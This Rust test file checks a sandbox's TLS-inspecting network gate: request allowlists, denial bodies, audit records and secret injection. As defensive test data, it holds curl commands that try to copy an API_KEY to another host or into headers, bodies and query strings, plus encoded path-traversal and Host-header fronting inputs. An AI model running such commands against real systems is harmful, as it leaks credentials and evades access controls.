//! Connections whose TLS ends at the gate, and secrets on them.

use serde_json::Value;

use crate::support::{
    command, direct, finish, inside, internet, report, stockade, tests, with_policy,
};

tests![
    only_listed_requests_of_an_opened_host_pass,
    denied_request_gets_403_with_the_rule_and_the_remedy,
    encoded_and_dotted_paths_are_denied_over_http1_and_http2,
    h19_another_host_inside_opened_tls_is_refused,
    every_request_is_in_the_record_with_method_status_and_verdict,
    authority_of_a_session_is_trusted_only_inside_it,
    program_that_pins_a_certificate_gets_a_named_denial,
    learned_policy_names_methods_and_paths_and_allows_the_same_run_and_no_other,
    rules_of_allow_hold_while_learning,
    denied_head_is_answered_in_every_version,
    secret_is_sent_to_its_host_and_never_comes_back,
    copy_of_a_placeholder_elsewhere_is_an_alarm,
    value_of_a_secret_is_nowhere_inside_nor_in_output_nor_in_the_record,
];

const VALUE: &str = "sk-6e1F9a4C7b2D5f8A3c0E";
const REPOS: [&str; 2] = ["--allow", "GET https://files.test/echo/**"];

fn curl<'a>(words: &[&'a str]) -> Vec<&'a str> {
    [&["curl", "-sS", "-m", "10"], words].concat()
}

/// The status that a request inside gets.
fn status(flags: &[&str], words: &[&str]) -> String {
    let format = ["-o", "/dev/null", "-w", "%{http_code}"];
    inside(flags, &[&curl(&[])[..], &format, words].concat()).text().to_owned()
}

fn only_listed_requests_of_an_opened_host_pass() {
    for url in ["https://files.test/echo/a", "https://files.test/"] {
        let code = ["-o", "/dev/null", "-w", "%{http_code}", "-X", "POST", url];
        assert_ne!(direct(&curl(&code)).text(), "403", "{url} on the machine");
    }
    assert_ne!(status(&REPOS, &["https://files.test/echo/a"]), "403");
    assert_eq!(status(&REPOS, &["-X", "POST", "https://files.test/echo/a"]), "403");
    assert_eq!(status(&REPOS, &["https://files.test/"]), "403");
    // The second request on the same connection.
    let both = ["https://files.test/echo/a", "-o", "/dev/null", "https://files.test/"];
    assert!(status(&REPOS, &both).ends_with("403"));
}

fn denied_request_gets_403_with_the_rule_and_the_remedy() {
    let run = inside(&REPOS, &curl(&["https://files.test/admin"]));
    let body: Value = serde_json::from_str(run.text()).expect("the body is JSON");
    assert_eq!(body["control"], "network_requests");
    assert_eq!(body["rule"], "command line: --allow GET https://files.test/echo/**");
    assert!(body["how_to_allow"].as_str().is_some_and(|text| text.contains("/admin")), "{body}");
}

fn encoded_and_dotted_paths_are_denied_over_http1_and_http2() {
    for version in ["--http1.1", "--http2"] {
        for path in ["echo/../", "echo/%2e%2e/", "%65cho/..%2f", "//", "echo/%252e%252e/", "ECHO/a"]
        {
            let url = format!("https://files.test/{path}");
            let code = status(&REPOS, &["--path-as-is", version, &url]);
            assert!(["400", "403"].contains(&code.as_str()), "{version} {path}: {code}");
        }
        assert_ne!(status(&REPOS, &[version, "https://files.test/%65cho/a"]), "403");
    }
}

fn h19_another_host_inside_opened_tls_is_refused() {
    let plain = ["--allow-host", "files.test"];
    for version in ["--http1.1", "--http2"] {
        let fronted = [version, "-H", "Host: other.test", "https://files.test/"];
        assert_eq!(status(&plain, &fronted), "200", "{version}: without opening it passes");
        let opened = [&plain[..], &["--inspect"]].concat();
        assert_eq!(status(&opened, &fronted), "400", "{version}");
        assert_eq!(status(&opened, &[version, "https://files.test/"]), "200", "{version}");
    }
}

fn every_request_is_in_the_record_with_method_status_and_verdict() {
    let folder = tempfile::tempdir().expect("there is room");
    // Stockade makes the directory, closed to other users.
    let records = folder.path().join("records");
    let record = ["--record", records.to_str().expect("the path is text")];
    let both = ["https://files.test/echo/a?q=1", "https://files.test/admin"];
    let report = report(&[&REPOS[..], &record].concat(), &curl(&both));
    let file = report["record"].as_str().expect("a record was kept");
    let text = std::fs::read_to_string(file).expect("it can be read");
    let lines = text.lines().map(|line| serde_json::from_str(line).expect("a line is an event"));
    let opened: Vec<String> = lines
        .map(|event: Value| event["body"].clone())
        .filter(|body| body["inspection"] == "opened")
        .map(|body| {
            let of = |key: &str| body[key].to_string();
            format!("{} {} {} {}", of("method"), of("path"), of("status"), of("verdict"))
        })
        .collect();
    assert_eq!(opened.len(), 2, "{text}");
    assert!(opened[0].starts_with("\"GET\" \"/echo/a\" "), "{opened:?}");
    assert!(opened[0].ends_with("\"allow\""), "{opened:?}");
    assert_eq!(opened[1], "\"GET\" \"/admin\" 403 \"deny\"");
    let summary = finish(stockade(&["audit", "summary", file]));
    assert!(summary.text().contains("GET") && summary.text().contains("403"), "{summary:?}");
}

fn authority_of_a_session_is_trusted_only_inside_it() {
    let script = "
import ssl, socket, os, sys
bundle = open(os.environ.get('SSL_CERT_FILE', '/etc/ssl/certs/ca-certificates.crt')).read()
context = ssl.create_default_context()
with socket.create_connection(('files.test', 443), 10) as plain:
    with context.wrap_socket(plain, server_hostname='files.test') as talk:
        print(dict(item[0] for item in talk.getpeercert()['issuer'])['commonName'])
print('PRIVATE KEY' in bundle)
";
    let opened = inside(&["--allow-host", "files.test", "--inspect"], &["python3", "-c", script]);
    assert_eq!(opened.text(), "Stockade session authority\nFalse\n");
    let plain = inside(&["--allow-host", "files.test"], &["python3", "-c", script]);
    assert_eq!(plain.text(), "Stockade Test Authority\nFalse\n");
    let words = ["sh", "-c", "grep -c BEGIN $SSL_CERT_FILE; sed -n 2,12p $SSL_CERT_FILE"];
    let flags = ["--allow-host", "files.test", "--inspect"];
    let (one, two) = (inside(&flags, &words), inside(&flags, &words));
    assert_ne!(one.text(), two.text(), "each session has an authority of its own");
}

fn program_that_pins_a_certificate_gets_a_named_denial() {
    let ca = internet().ca_file();
    let ca = ca.to_str().expect("the path is text");
    let mount = format!("{ca}:/ca.pem");
    let words = curl(&["--cacert", "/ca.pem", "https://files.test/"]);
    let plain = ["--mount", &mount, "--allow-host", "files.test"];
    assert_eq!(inside(&plain, &words).code, 0, "without opening it works");
    let run = finish(command(&[&["--json"], &plain[..], &["--inspect"]].concat(), &words));
    let shown = run.json().to_string();
    assert!(shown.contains("did not accept the certificate of this session"), "{shown}");
    assert_ne!(run.code, 0);
}

/// A policy with a secret for one host, and a second opened host.
fn policy() -> (tempfile::TempDir, String) {
    let folder = tempfile::tempdir().expect("there is room for a key");
    let key = folder.path().join("key");
    std::fs::write(&key, VALUE).expect("the key can be written");
    let text = format!(
        "network_allowlist: [files.test, {{host: other.test, inspect: true}}]\n\
         secrets:\n  - {{name: API_KEY, from: 'file:{}', hosts: [files.test], \
         header: Authorization, format: 'Bearer {{}}'}}\n",
        key.display()
    );
    (folder, text)
}

fn secret_is_sent_to_its_host_and_never_comes_back() {
    let (_folder, text) = policy();
    let script = "curl -sS https://files.test/echo -H \"Authorization: Bearer $API_KEY\"";
    let run = with_policy(&text, &["sh", "-c", script]);
    assert!(run.text().to_lowercase().contains("authorization: bearer ***"), "{run:?}");
    assert!(!run.text().contains(VALUE), "{run:?}");
}

fn copy_of_a_placeholder_elsewhere_is_an_alarm() {
    let (_folder, text) = policy();
    for script in [
        "curl -sS https://other.test/echo -H \"Authorization: Bearer $API_KEY\"",
        "curl -sS https://files.test/echo -H \"X-Copy: $API_KEY\"",
        "curl -sS https://files.test/upload --data \"copy=$API_KEY\"",
        "curl -sS \"https://files.test/echo?copy=$API_KEY\"",
        "curl -sS http://files.test/echo -H \"Authorization: Bearer $API_KEY\"",
    ] {
        let run = with_policy(&text, &["sh", "-c", script]);
        let body: Value = serde_json::from_str(run.text()).unwrap_or_default();
        assert_eq!(body["control"], "secrets", "{script}: {run:?}");
    }
}

fn value_of_a_secret_is_nowhere_inside_nor_in_output_nor_in_the_record() {
    let (folder, text) = policy();
    let policy = folder.path().join("policy.yaml");
    // From the environment of Stockade, which must not be that of any process inside.
    let key = format!("file:{}", folder.path().join("key").display());
    let text = text.replace(&key, "env:API_KEY");
    assert!(text.contains("env:API_KEY"), "{text}");
    std::fs::write(&policy, text).expect("the policy can be written");
    let records = folder.path().join("records");
    let paths = [&policy, &records].map(|path| path.to_str().expect("the path is text"));
    // Looks for the value, which the script has only in two halves, in every place inside.
    let script = include_str!("programs/find_secret.py");
    let (first, last) = VALUE.split_at(10);
    let flags = ["--json", "--policy", paths[0], "--record", paths[1]];
    let words = ["python3", "-c", script, first, last];
    let mut command = command(&flags, &words);
    command.env("API_KEY", VALUE);
    let run = finish(command);
    let shown = run.json();
    let output = shown["stdout"].as_str().unwrap_or_default();
    assert!(output.contains("asked: 200") && output.contains("crashed: -6"), "{shown}");
    assert!(output.contains("control: found"), "the search finds what is there: {shown}");
    assert!(output.ends_with("value: not found\n"), "{shown}");
    let record = std::fs::read_to_string(shown["record"].as_str().unwrap_or_default());
    let record = record.expect("a record was kept");
    assert!(record.contains("API_KEY"), "{record}");
    for text in [&run.stdout, &run.stderr, &record] {
        assert!(!text.contains(VALUE), "{text}");
    }
}

fn learned_policy_names_methods_and_paths_and_allows_the_same_run_and_no_other() {
    let folder = tempfile::tempdir().expect("there is room for a policy");
    let (file, key) = (folder.path().join("learned.yaml"), folder.path().join("key"));
    std::fs::write(&key, VALUE).expect("the key can be written");
    let secret = format!("API_KEY=file:{}@files.test", key.display());
    let path = file.to_str().expect("the path is text");
    let script = "curl -sS https://files.test/echo -H \"Authorization: Bearer $API_KEY\" && \
                  curl -sS -X POST -d x https://files.test/upload && \
                  curl -sS -o /dev/null http://other.test/";
    let words = ["sh", "-c", script];
    let run = inside(&["--learn", path, "--inspect", "--secret", &secret], &words);
    assert!(run.text().to_lowercase().contains("authorization: bearer ***"), "{run:?}");
    let text = std::fs::read_to_string(&file).expect("a policy was written");
    for entry in [
        "{ host: \"files.test\", ports: [443], methods: [GET], paths: [\"/echo\"] }",
        "{ host: \"files.test\", ports: [443], methods: [POST], paths: [\"/upload\"] }",
        "{ host: \"other.test\", ports: [80], methods: [GET], paths: [\"/\"] }",
    ] {
        assert!(text.contains(entry), "{text}");
    }
    assert!(!text.contains(VALUE), "{text}");
    let again = inside(&["--policy", path], &words);
    assert_eq!(again.text(), run.text());
    let other = curl(&["https://files.test/echo/b"]);
    let denied = inside(&["--policy", path], &other);
    let body: Value = serde_json::from_str(denied.text()).unwrap_or_default();
    assert_eq!(body["control"], "network_requests", "{denied:?}");
}

fn rules_of_allow_hold_while_learning() {
    let folder = tempfile::tempdir().expect("there is room for a policy");
    for more in [&[][..], &["--inspect"]] {
        let file = folder.path().join(format!("learned{}.yaml", more.len()));
        let path = file.to_str().expect("the path is text");
        let flags = [&["--learn", path], &REPOS[..], more].concat();
        let script = "for method in GET DELETE; do curl -sS -m 10 -o /dev/null \
                      -w '%{http_code} ' -X $method https://files.test/echo/a; done";
        let run = inside(&flags, &["sh", "-c", script]);
        assert!(
            !run.text().starts_with("403") && run.text().trim_end().ends_with("403"),
            "{run:?}"
        );
        let text = std::fs::read_to_string(&file).expect("a policy was written");
        let entry = "methods: [GET], paths: [\"/echo/a\"] }";
        assert!(text.contains(entry) && !text.contains("DELETE"), "{text}");
        assert_eq!(text.matches("files.test").count(), 1, "{text}");
    }
}

fn denied_head_is_answered_in_every_version() {
    for version in ["--http1.1", "--http2"] {
        let run = inside(&REPOS, &curl(&["-I", version, "https://files.test/echo/a"]));
        assert_eq!(run.code, 0, "{run:?}");
        assert!(run.text().contains(" 403"), "{run:?}");
    }
}
